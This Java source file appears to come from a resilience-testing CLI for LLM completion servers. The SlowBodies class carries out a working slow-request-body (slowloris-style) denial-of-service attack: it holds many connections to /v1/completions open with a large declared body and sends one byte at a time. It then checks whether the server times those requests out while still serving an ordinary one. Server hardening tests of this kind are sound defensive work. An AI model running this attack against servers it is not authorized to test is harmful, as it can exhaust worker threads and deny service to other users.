package dev.rill.cli.attack;

import java.io.IOException;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;

/**
 * Slow request bodies: {@code connections} requests to {@code /v1/completions} that declare
 * {@code Content-Length: 1000000} and then send one byte every {@code intervalMs}, for at most
 * {@code holdMs}. A server that reads bodies on its worker threads runs out of them. While they
 * trickle, one ordinary completion request is made. Held: that request succeeded, and the server
 * ended every slow request itself (a status such as 408 or 429, or a closed connection) before
 * {@code holdMs}.
 */
public final class SlowBodies implements Attack {

    private final int connections, intervalMs, holdMs;
    private final CountDownLatch opened = new CountDownLatch(1);

    public SlowBodies(int connections, int intervalMs, int holdMs) {
        this.connections = connections;
        this.intervalMs = intervalMs;
        this.holdMs = holdMs;
    }

    @Override
    public String name() {
        return String.format(Locale.ROOT, "slow request bodies (%d x 1 byte / %d ms)", connections, intervalMs);
    }

    private static final class Slow {
        final RawSocket socket;
        String ended;   // null while the server waits for more

        Slow(RawSocket socket) {
            this.socket = socket;
        }
    }

    @Override
    public Result run(Target target) throws Exception {
        List<Slow> slow = new ArrayList<>();
        long start = System.nanoTime();
        try {
            for (int i = 0; i < connections; i++) {
                Slow s = new Slow(target.connect(5000));
                slow.add(s);
                try {
                    s.socket.write("POST /v1/completions HTTP/1.1\r\nHost: " + target.base().getHost() + "\r\n" + target.authorizationHeader()
                            + "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{");
                } catch (IOException e) {
                    s.ended = "closed";
                }
            }
            opened.countDown();
            String legit = ordinaryCompletion(target, target.apiKey());
            long holdUntil = start + holdMs * 1_000_000L;
            long nextByte = System.nanoTime() + intervalMs * 1_000_000L;
            while (System.nanoTime() < holdUntil && slow.stream().anyMatch(s -> s.ended == null)) {
                for (Slow s : slow) if (s.ended == null) s.ended = answered(s.socket, start);
                if (System.nanoTime() >= nextByte) {
                    for (Slow s : slow) {
                        if (s.ended != null) continue;
                        try {
                            s.socket.write(" ");
                        } catch (IOException e) {
                            s.ended = "closed";
                        }
                    }
                    nextByte += intervalMs * 1_000_000L;
                }
                Thread.sleep(20);
            }
            Map<String, Integer> ends = new TreeMap<>();
            int open = 0;
            for (Slow s : slow) {
                if (s.ended == null) open++;
                else ends.merge(s.ended.replaceAll(" after .*", ""), 1, Integer::sum);
            }
            double lastEnd = (System.nanoTime() - start) / 1e9;
            String outcome = "ordinary completion: " + legit + "; slow requests ended by the server: " + ends
                    + (open > 0 ? ", " + open + " still open after " + holdMs / 1000 + " s" : String.format(Locale.ROOT, " (all within %.1f s)", lastEnd));
            return new Result(connections, legit.startsWith("200") && open == 0, outcome);
        } finally {
            for (Slow s : slow) s.socket.close();
        }
    }

    /** Waits until every slow request has been sent its headers (the attack's steady state). */
    public boolean awaitOpened(long millis) throws InterruptedException {
        return opened.await(millis, TimeUnit.MILLISECONDS);
    }

    /** The server's answer to a slow request, if it gave one: "HTTP 408", "closed", or null while it waits. */
    private static String answered(RawSocket socket, long start) {
        try {
            if (socket.available() == 0) return null;
            int status = socket.readHead().status();
            return "HTTP " + status + " after " + (System.nanoTime() - start) / 1_000_000 + " ms";
        } catch (IOException e) {
            return "closed";
        }
    }

    /**
     * A small completion request made the ordinary way (from the default address, with {@code apiKey}
     * or none) while an attack runs: "200 in N ms", or what went wrong.
     */
    static String ordinaryCompletion(Target target, String apiKey) {
        long t0 = System.nanoTime();
        try {
            HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).connectTimeout(Duration.ofSeconds(10)).build();
            HttpRequest.Builder b = HttpRequest.newBuilder(target.base().resolve("/v1/completions")).timeout(Duration.ofSeconds(120))
                    .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString("{\"prompt\":\"First\",\"max_tokens\":3}"));
            if (apiKey != null) b.header("Authorization", "Bearer " + apiKey);
            HttpResponse<String> r = http.send(b.build(), HttpResponse.BodyHandlers.ofString());
            return r.statusCode() + " in " + (System.nanoTime() - t0) / 1_000_000 + " ms";
        } catch (IOException e) {
            return "failed after " + (System.nanoTime() - t0) / 1_000_000 + " ms: " + e;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return "interrupted";
        }
    }
}
